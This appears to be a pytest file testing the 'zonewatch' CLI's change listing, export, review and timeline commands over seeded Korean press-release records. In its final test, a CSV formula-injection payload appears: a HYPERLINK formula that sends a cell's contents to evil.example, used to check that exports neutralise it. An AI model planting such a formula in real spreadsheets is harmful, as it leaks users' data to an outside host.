"""``zonewatch changes`` and ``zonewatch timeline`` as a user runs them, on seeded records."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from tests.cli.conftest import Run
from zonewatch.app import App, configure
from zonewatch.changes.diffing import diff_text
from zonewatch.changes.export import EXPORT_FIELDS, ExportRow, write_csv
from zonewatch.cli.main import cli
from zonewatch.models import (
    ChangeEntity,
    ChangeRecord,
    ChangeTopic,
    Document,
    DocumentVersion,
    Mention,
    VersionTopic,
)

KST = dt.timezone(dt.timedelta(hours=9))
RELEASED = dt.datetime(2026, 3, 2, 9, tzinfo=KST)
OLD_BODY = "송도 바이오 클러스터에 597억 원을 투입한다.\n목표 입주기업 250개사.\n"
NEW_BODY = "송도 바이오 클러스터에 650억 원을 투입한다.\n목표 입주기업 250개사.\n"


@pytest.fixture
def app(tmp_path: Path, fresh_database_url: str) -> Iterator[App]:
    """The app over the database the ``zonewatch`` fixture runs against, to seed records."""
    built = configure(data_dir=tmp_path / "data", database_url=fresh_database_url)
    yield built
    built.dispose()


def version(document: Document, number: int, body: str) -> DocumentVersion:
    return DocumentVersion(
        document_id=document.id,
        number=number,
        title="송도 바이오 클러스터 조성 계획",
        text=body,
        content_hash=f"hash-{number}",
        extractor_version="1",
    )


def fact_source(version: DocumentVersion, url: str) -> dict[str, object]:
    return {"version_id": version.id, "version": version.number, "source": "ifez-press", "url": url}


@pytest.fixture
def seeded(zonewatch: Run, app: App) -> dict[str, int]:
    """After `zonewatch init`: a changed release about Songdo (with a fact and an attachment
    change; the fact record, made before records stored release dates, has none of its own),
    a new ODZ release found by Busan's first crawl (a baseline) and a model change; the ids
    of their records by kind."""
    zonewatch("init")
    url = "https://www.ifez.go.kr/view/42"
    with app.session() as session:
        document = Document(
            source_id="ifez-press", external_id="42", url=url, published_at=RELEASED
        )
        session.add(document)
        session.flush()
        old, new = version(document, 1, OLD_BODY), version(document, 2, NEW_BODY)
        session.add_all([old, new])
        session.flush()
        evidence = [{"text": "송도", "where": "body", "start": 0, "end": 2}]
        session.add(
            Mention(version_id=new.id, entity_id="ifez-songdo", score=0.9, evidence=evidence)
        )
        session.add(VersionTopic(version_id=new.id, topic_id="plan", score=0.8, evidence=[]))
        common = {
            "document_id": document.id,
            "source_id": "ifez-press",
            "old_version_id": old.id,
            "new_version_id": new.id,
            "occurred_at": dt.datetime(2026, 3, 2, 10, tzinfo=KST),
            "released_at": RELEASED,
        }
        records = {
            "changed_document": ChangeRecord(
                kind="changed_document",
                title="송도 바이오 클러스터 조성 계획",
                significance=0.62,
                signals={"kind": "changed_document", "base": 0.35, "topics": ["plan"]},
                diff={
                    "title": diff_text("송도 계획", "송도 바이오 클러스터 조성 계획").to_json(),
                    "body": diff_text(OLD_BODY, NEW_BODY).to_json(),
                },
                **common,
            ),
            "fact_change": ChangeRecord(
                kind="fact_change",
                title="송도 바이오 클러스터 — investment: 597억 원 → 650억 원",
                significance=0.7,
                diff={
                    "facts": [
                        {
                            "entity": "ifez-songdo",
                            "metric": "investment",
                            "unit": "KRW",
                            "old": 59_700_000_000,
                            "new": 65_000_000_000,
                            "old_raw": "597억 원",
                            "new_raw": "650억 원",
                            "old_source": fact_source(old, url + "?v=1"),
                            "new_source": fact_source(new, url + "?v=2"),
                        }
                    ]
                },
                **{**common, "released_at": None},
            ),
            "attachment_replaced": ChangeRecord(
                kind="attachment_replaced",
                title="송도 바이오 클러스터 — 계획.hwp",
                significance=0.4,
                diff={
                    "attachments": {
                        "old": {"name": "계획.hwp", "url": "https://x/1"},
                        "new": {"name": "계획(수정).hwp", "url": "https://x/2"},
                        "renamed": True,
                    }
                },
                **common,
            ),
            "new_document": ChangeRecord(
                kind="new_document",
                title="부산 기회발전특구 추가 지정",
                significance=0.5,
                source_id="busan-press",
                occurred_at=dt.datetime(2026, 3, 5, 9, tzinfo=KST),
                released_at=dt.datetime(2026, 3, 4, 15, tzinfo=KST),
                baseline=True,
            ),
            "model_change": ChangeRecord(
                kind="model_change",
                title="kfez renamed",
                significance=0.8,
                occurred_at=dt.datetime(2026, 3, 1, 8, tzinfo=KST),
            ),
        }
        about_of = {"new_document": "odz-busan", "model_change": "kfez"}
        for kind, record in records.items():
            record.dedupe_key = f"cli-test:{kind}"
            about = about_of.get(kind, "ifez-songdo")
            record.entities = [ChangeEntity(entity_id=about)]
            record.topics = [ChangeTopic(topic_id="plan")] if kind not in about_of else []
            session.add(record)
        session.flush()
        return {kind: record.id for kind, record in records.items()}


def test_list_as_table_json_and_csv(zonewatch: Run, seeded: dict[str, int]) -> None:
    table = zonewatch("changes", "list").stdout
    assert "released" in table
    assert "detected" in table
    assert "2026-03-02 09:00 KST" in table
    assert "2026-03-02 10:00 KST" in table
    assert "부산 기회발전특구 추가 지정" in table
    assert "new_document (baseline)" in table
    assert "no release date" in table
    assert "5 changes" in table

    rows = json.loads(zonewatch("changes", "list", "--entity", "ifez", "--format", "json").stdout)
    assert {row["id"] for row in rows} == {
        seeded[kind] for kind in ("changed_document", "fact_change", "attachment_replaced")
    }
    assert all(row["entities"] == ["ifez-songdo"] and row["topics"] == ["plan"] for row in rows)
    assert {row["released_at"] for row in rows} == {"2026-03-02T09:00:00+09:00"}
    assert {row["detected_at"] for row in rows} == {"2026-03-02T10:00:00+09:00"}
    by_kind = {row["kind"]: row for row in rows}
    assert by_kind["fact_change"]["release_date_from"] == "document"
    assert by_kind["changed_document"]["release_date_from"] == "record"
    assert {row["url"] for row in rows} == {"https://www.ifez.go.kr/view/42"}

    text = zonewatch(
        "changes", "list", "--zone-type", "odz", "--since", "2026-03-03", "--format", "csv"
    ).stdout
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert [row["id"] for row in parsed] == [str(seeded["new_document"])]
    assert parsed[0]["entities"] == "odz-busan"
    assert parsed[0]["baseline"] == "true"
    assert parsed[0]["released_at"] == "2026-03-04 15:00 KST"
    assert text.splitlines()[0] == ",".join(EXPORT_FIELDS)

    kinds = zonewatch(
        "changes", "list", "--kind", "fact_change", "--kind", "new_document", "--format", "json"
    ).stdout
    assert {row["kind"] for row in json.loads(kinds)} == {"fact_change", "new_document"}


def test_newest_release_first_without_a_date_by_detection(
    zonewatch: Run, seeded: dict[str, int]
) -> None:
    """The Busan release (4 March) before the Songdo edits (2 March; the same detection time,
    so newest record first) before the model change, which has no release date and was
    applied on 1 March."""
    rows = json.loads(zonewatch("changes", "list", "--format", "json").stdout)
    assert [row["id"] for row in rows] == [
        seeded["new_document"],
        seeded["attachment_replaced"],
        seeded["fact_change"],
        seeded["changed_document"],
        seeded["model_change"],
    ]
    model = rows[-1]
    assert (model["released_at"], model["release_date_from"]) == (None, None)
    assert model["detected_at"] == "2026-03-01T08:00:00+09:00"
    released = zonewatch("changes", "list", "--until", "2026-03-02", "--format", "json").stdout
    assert seeded["new_document"] not in {row["id"] for row in json.loads(released)}
    detected = zonewatch(
        "changes", "list", "--detected-since", "2026-03-05", "--format", "json"
    ).stdout
    assert [row["id"] for row in json.loads(detected)] == [seeded["new_document"]]


def test_baselines_can_be_hidden_or_listed_alone(zonewatch: Run, seeded: dict[str, int]) -> None:
    hidden = zonewatch("changes", "list", "--baseline", "hide").stdout
    assert "부산 기회발전특구 추가 지정" not in hidden
    assert "4 changes (1 baseline hidden: --baseline show lists them)" in hidden
    alone = zonewatch("changes", "list", "--baseline", "only", "--format", "json").stdout
    assert [row["id"] for row in json.loads(alone)] == [seeded["new_document"]]
    assert "--baseline [show|hide|only]" in zonewatch("changes", "list", "--help").stdout


def test_export_csv_and_json(zonewatch: Run, seeded: dict[str, int], tmp_path: Path) -> None:
    said = zonewatch("changes", "export", "--output", "log.csv").stdout
    assert said.strip() == "exported 5 changes to log.csv"
    data = (tmp_path / "log.csv").read_bytes()
    assert data.startswith("\ufeff".encode()), "spreadsheets read Korean as UTF-8"
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert list(rows[0]) == list(EXPORT_FIELDS)
    by_id = {int(row["id"]): row for row in rows}
    changed = by_id[seeded["changed_document"]]
    assert changed["url"] == "https://www.ifez.go.kr/view/42"
    assert (changed["released_at"], changed["detected_at"]) == (
        "2026-03-02 09:00 KST",
        "2026-03-02 10:00 KST",
    )
    assert (changed["kind"], changed["source"], changed["baseline"]) == (
        "changed_document",
        "ifez-press",
        "false",
    )
    assert (changed["entities"], changed["topics"], changed["significance"]) == (
        "ifez-songdo",
        "plan",
        "0.62",
    )
    assert changed["review_status"] == "new"
    model = by_id[seeded["model_change"]]
    assert (model["released_at"], model["url"]) == ("", "")

    exported = json.loads(
        zonewatch("changes", "export", "--format", "json", "--source", "busan-press").stdout
    )
    assert exported == [
        {
            "id": seeded["new_document"],
            "released_at": "2026-03-04T15:00:00+09:00",
            "detected_at": "2026-03-05T09:00:00+09:00",
            "kind": "new_document",
            "baseline": True,
            "title": "부산 기회발전특구 추가 지정",
            "url": None,
            "source": "busan-press",
            "entities": ["odz-busan"],
            "topics": [],
            "significance": 0.5,
            "minor": False,
            "review_status": "new",
            "reviewed_by": None,
            "review_note": None,
            "summary": None,
        }
    ]
    zonewatch("changes", "export", "--output", "log.json", "--baseline", "hide", "--limit", "2")
    from_file = json.loads((tmp_path / "log.json").read_text("utf-8"))
    assert [row["id"] for row in from_file] == [
        seeded["attachment_replaced"],
        seeded["fact_change"],
    ]


def test_a_narrow_terminal_gets_one_change_per_two_lines(app: App, seeded: dict[str, int]) -> None:
    settings = app.settings
    where = [
        "--database-url",
        settings.effective_database_url,
        "--data-dir",
        str(settings.data_dir),
    ]
    result = CliRunner().invoke(
        cli, [*where, "changes", "list", "--limit", "1"], env={"COLUMNS": "80"}
    )
    assert result.exit_code == 0, result.output
    first, title, count = result.output.splitlines()
    assert first.split("  ") == [
        f"#{seeded['new_document']}",
        "2026-03-04 15:00 KST",
        "2026-03-05 09:00 KST",
        "new_document (baseline)",
        "0.50",
        "new",
        "busan-press",
        "odz-busan",
    ]
    assert title == "    부산 기회발전특구 추가 지정"
    assert count == "1 change"


def test_search_finds_words_in_titles_and_in_the_body_only(
    zonewatch: Run, seeded: dict[str, int], tmp_path: Path
) -> None:
    def found(*args: str) -> set[int]:
        listed = zonewatch("changes", "list", "--format", "json", *args).stdout
        return {row["id"] for row in json.loads(listed)}

    assert found("--search", "기회발전특구") == {seeded["new_document"]}
    assert found("--search", "입주기업", "--kind", "changed_document") == {
        seeded["changed_document"]
    }, "입주기업 is only in the document's text"
    assert found("--search", "부산") == {seeded["new_document"]}, "two Korean letters"
    assert found("--search", "KFEZ RENAMED") == {seeded["model_change"]}
    zonewatch("changes", "export", "--search", "부산", "--output", str(tmp_path / "b.json"))
    exported = json.loads((tmp_path / "b.json").read_text(encoding="utf-8"))
    assert [row["id"] for row in exported] == [seeded["new_document"]]


def test_show_renders_diff_facts_attachments_and_evidence(
    zonewatch: Run, seeded: dict[str, int]
) -> None:
    changed = str(seeded["changed_document"])
    wide = zonewatch("changes", "show", changed, "--no-color", "--width", "160").stdout
    assert "\x1b[" not in wide
    assert "changed_document" in wide
    assert "https://www.ifez.go.kr/view/42" in wide
    assert "v1" in wide
    assert "v2" in wide
    assert "0.62 — base 0.35, topics [plan]" in wide
    assert "│" in wide, "side by side at 160 columns"
    assert "[-597억-]" in wide
    assert "{+650억+}" in wide
    assert "ifez-songdo" in wide
    assert "“송도”" in wide
    assert "topic plan" in wide

    narrow = zonewatch("changes", "show", changed, "--no-color", "--width", "80").stdout
    assert "│" not in narrow
    assert "[-597억-]{+650억+}" in narrow

    assert "released:     2026-03-02 09:00 KST\n" in wide
    assert "detected:     2026-03-02 10:00 KST (recorded " in wide
    assert "baseline:" not in wide

    fact = zonewatch("changes", "show", str(seeded["fact_change"]), "--no-color").stdout
    assert "released:     2026-03-02 09:00 KST (the document's date)" in fact
    assert "investment (ifez-songdo): 597억 원 → 650억 원" in fact
    assert "https://www.ifez.go.kr/view/42?v=1" in fact
    assert "https://www.ifez.go.kr/view/42?v=2" in fact

    attachment = zonewatch("changes", "show", str(seeded["attachment_replaced"]), "--no-color")
    assert "계획.hwp <https://x/1> → 계획(수정).hwp <https://x/2>" in attachment.stdout


def test_show_marks_a_baseline_and_says_when_there_is_no_release_date(
    zonewatch: Run, seeded: dict[str, int]
) -> None:
    baseline = zonewatch("changes", "show", str(seeded["new_document"]), "--no-color").stdout
    first = baseline.splitlines()[0]
    assert first == f"#{seeded['new_document']} new_document (baseline)"
    assert "baseline:     yes: already published when the source's first crawl found it" in baseline
    assert "released:     2026-03-04 15:00 KST\n" in baseline
    model = zonewatch("changes", "show", str(seeded["model_change"]), "--no-color").stdout
    assert "released:     no release date (not a document)" in model
    assert "detected:     2026-03-01 08:00 KST" in model


def test_review_marks_noise_and_learns_fragments(zonewatch: Run, seeded: dict[str, int]) -> None:
    changed = str(seeded["changed_document"])
    said = zonewatch("changes", "review", changed, "--status", "noise", "--by", "kim").stdout
    assert said.startswith(f"#{changed}: noise (by kim); ")
    assert "noise rules for ifez-press" in said
    zonewatch("changes", "review", str(seeded["new_document"]), "--status", "important")
    noise = json.loads(zonewatch("changes", "list", "--status", "noise", "--format", "json").stdout)
    assert [row["id"] for row in noise] == [int(changed)]
    assert noise[0]["reviewed_by"] == "kim"
    shown = zonewatch("changes", "show", changed, "--no-color").stdout
    assert "noise by kim" in shown


def test_review_several_changes_or_only_a_note(zonewatch: Run, seeded: dict[str, int]) -> None:
    first, second = str(seeded["new_document"]), str(seeded["fact_change"])
    said = zonewatch(
        "changes", "review", first, second, "--status", "reviewed", "--note", "확인", "--by", "kim"
    ).stdout
    assert said.splitlines() == [f"#{first}: reviewed (by kim)", f"#{second}: reviewed (by kim)"]
    noted = zonewatch("changes", "review", first, "--note", "후속 확인", "--by", "lee").stdout
    assert noted == f"#{first}: note (by lee)\n"
    shown = json.loads(zonewatch("changes", "show", first, "--json").stdout)
    assert (shown["review_status"], shown["review_note"], shown["reviewed_by"]) == (
        "reviewed",
        "후속 확인",
        "lee",
    )
    kept = json.loads(zonewatch("changes", "show", second, "--json").stdout)
    assert kept["review_note"] == "확인"
    refused = zonewatch("changes", "review", first, "999999", "--status", "noise", check=False)
    assert refused.returncode == 2
    assert "unknown change 999999" in refused.stderr
    again = json.loads(zonewatch("changes", "show", first, "--json").stdout)
    assert again["review_status"] == "reviewed", "an unknown id refuses the whole batch"


def test_timeline_oldest_first(zonewatch: Run, seeded: dict[str, int]) -> None:
    events = json.loads(zonewatch("timeline", "ifez", "--format", "json").stdout)
    placed = [
        dt.datetime.fromisoformat(event["released_at"] or event["detected_at"]) for event in events
    ]
    assert placed == sorted(placed)
    changes = [event for event in events if event["type"] == "change"]
    assert {event["id"] for event in changes} == {
        seeded[kind] for kind in ("changed_document", "fact_change", "attachment_replaced")
    }
    assert {event["released_at"] for event in changes} == {"2026-03-02T09:00:00+09:00"}
    assert {event["detected_at"] for event in changes} == {"2026-03-02T10:00:00+09:00"}
    models = [event for event in events if event["type"] == "model"]
    assert any(event["entities"] == ["ifez"] for event in models)
    assert all(event["released_at"] is None for event in models)
    table = zonewatch("timeline", "odz-busan").stdout
    assert "부산 기회발전특구 추가 지정" in table
    assert f"#{seeded['new_document']}" in table
    assert "new_document (baseline)" in table
    assert "2026-03-04 15:00 KST" in table
    assert "2026-03-05 09:00 KST" in table


RAW_TIMES = re.compile(r"\d:\d\d:\d\d\.\d|\+00:00|\d\dZ\b|T\d\d:\d\d:\d\d(?!\+09:00)")


def test_every_output_has_one_time_format(zonewatch: Run, seeded: dict[str, int]) -> None:
    """People read KST to the minute; JSON carries ISO 8601 in KST to the second. Never raw
    UTC, never microseconds."""
    outputs = {
        args: zonewatch(*args).stdout
        for args in [
            ("changes", "list"),
            ("changes", "list", "--format", "json"),
            ("changes", "list", "--format", "csv"),
            ("changes", "export"),
            ("changes", "export", "--format", "json"),
            ("changes", "show", str(seeded["changed_document"]), "--no-color"),
            ("changes", "show", str(seeded["changed_document"]), "--json"),
            ("timeline", "ifez"),
            ("timeline", "ifez", "--format", "json"),
            ("entities", "show", "ifez"),
            ("entities", "show", "ifez", "--json"),
        ]
    }
    for args, text in outputs.items():
        assert not RAW_TIMES.search(text), (args, RAW_TIMES.search(text))
        assert re.search(r"\d{4}-\d\d-\d\d[ T]\d\d:\d\d", text), args
    people = [text for args, text in outputs.items() if "json" not in " ".join(args)]
    assert all(" KST" in text for text in people)


MISTAKES = [
    (("changes", "show", "999"), "error: unknown change 999"),
    (("changes", "review", "999", "--status", "reviewed"), "error: unknown change 999"),
    (("timeline", "atlantis"), "error: unknown entity 'atlantis'"),
    (("changes", "list", "--entity", "atlantis"), "error: unknown entity 'atlantis'"),
    (("changes", "list", "--zone-type", "ifez"), "error: 'ifez' is a fez, not a zone type"),
    (("changes", "review", "1", "--status", "new"), "Invalid value for '--status'"),
    (("changes", "review", "1"), "give --status, --note or both"),
    (("changes", "review", "--status", "noise"), "Missing argument 'CHANGE_ID...'"),
    (("changes", "list", "--baseline", "maybe"), "Invalid value for '--baseline'"),
    (("changes", "list", "--since", "2026-13-01"), "Invalid value for '--since'"),
    (
        ("changes", "export", "--detected-until", "yesterday"),
        "Invalid value for '--detected-until'",
    ),
    (("changes", "export", "--format", "xlsx"), "Invalid value for '--format'"),
    (("changes", "export", "--output", "missing/log.csv"), "error: missing/log.csv: "),
    (("changes", "list", "--search", "가" * 101), "error: a search word has at most 100"),
]


def test_mistakes_exit_2_with_a_clear_message(zonewatch: Run) -> None:
    zonewatch("init")
    for args, message in MISTAKES:
        result = zonewatch(*args, check=False)
        assert result.returncode == 2, args
        assert message in result.stderr, args
        if message.startswith("error:"):
            assert len(result.stderr.strip().splitlines()) == 1, args


def test_csv_cells_from_crawled_titles_cannot_be_formulas() -> None:
    """Titles are scraped: ``=HYPERLINK(...)`` must open as text, not run as a formula."""
    row = ExportRow(
        id=1,
        released_at=None,
        detected_at=RELEASED,
        kind="new_document",
        baseline=False,
        title='=HYPERLINK("https://evil.example/?"&A1,"클릭")',
        url="https://www.ifez.go.kr/view/42",
        source="ifez-press",
        entities=("@odz",),
        topics=(),
        significance=-0.0,
        minor=False,
        review_status="new",
        reviewed_by=None,
        review_note="-1 = noise",
        summary="+82 2 0000",
    )
    out = io.StringIO()
    write_csv([row], out)

    [parsed] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert parsed["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"클릭")'
    assert parsed["summary"] == "'+82 2 0000"
    assert parsed["entities"] == "'@odz"
    assert parsed["review_note"] == "'-1 = noise"
    assert parsed["significance"] == "-0.0"
